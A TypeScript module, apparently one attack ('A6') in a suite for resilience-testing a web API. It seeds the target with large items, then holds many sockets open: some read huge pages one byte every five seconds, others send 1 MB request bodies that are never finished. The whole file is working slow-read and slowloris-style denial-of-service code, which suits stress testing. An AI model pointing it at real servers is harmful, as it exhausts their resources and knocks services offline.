import { connect } from 'node:net'
import type { Attack, Target } from './attack.ts'

const BATCHES_COUNT = 6
const ITEMS_IN_BATCH_COUNT = 17
/** Four bytes a character in UTF-8: the largest items there are. */
const LARGE = { description: '\u{1F600}'.repeat(10_000), data: { x: 'y'.repeat(16_000) } }
const READ_EVERY_MS = 5_000
const REFUSED_PAUSE_MS = 20
const UNFINISHED_BYTES = 1_000_000

const ended = (signal: AbortSignal): Promise<void> =>
  new Promise((resolve) => {
    if (signal.aborted) resolve()
    else signal.addEventListener('abort', () => resolve(), { once: true })
  })

/** Sends what begins a request and then reads a byte now and then, until the other side gives up. */
const crawl = async ({ url }: Target, head: string, body: string, signal: AbortSignal): Promise<void> => {
  const { hostname, port } = new URL(url)
  const socket = connect(Number(port), hostname)
  const { promise: closed, resolve } = Promise.withResolvers<void>()
  socket.on('close', () => resolve())
  socket.on('error', () => resolve())
  socket.pause()
  socket.write(`${head}\r\n\r\n${body}`)
  const timer = setInterval(() => socket.read(1), READ_EVERY_MS)
  await Promise.race([closed, ended(signal)])
  clearInterval(timer)
  socket.destroy()
}

export const attack: Attack = {
  id: 'A6',
  about: 'pages of 5.6 MB that are read a byte in 5 s, and bodies of 1 MB without their last byte',
  async prepare({ url, token }) {
    const operations = Array.from({ length: ITEMS_IN_BATCH_COUNT }, (_, n) => ({
      op: 'create',
      title: `${n}`,
      ...LARGE,
    }))
    for (let n = 0; n < BATCHES_COUNT; n++) {
      const response = await fetch(`${url}/api/v1/items/batch`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ operations }),
      })
      if (!response.ok) throw new Error(`the batch answered ${response.status}`)
    }
  },
  async client(target, index, signal) {
    const headers = `Host: localhost\r\nAuthorization: Bearer ${target.token}`
    while (!signal.aborted) {
      // Several of each at the same time, as a client of many connections.
      const open = Array.from({ length: 4 }, () =>
        index % 2 === 0
          ? crawl(target, `GET /api/v1/items/?size=100 HTTP/1.1\r\n${headers}`, '', signal)
          : crawl(
              target,
              `POST /api/v1/items/ HTTP/1.1\r\n${headers}\r\nContent-Type: application/json\r\nContent-Length: ${UNFINISHED_BYTES}`,
              ' '.repeat(UNFINISHED_BYTES - 1),
              signal,
            ),
      )
      await Promise.all(open)
      await Bun.sleep(REFUSED_PAUSE_MS)
    }
  },
}
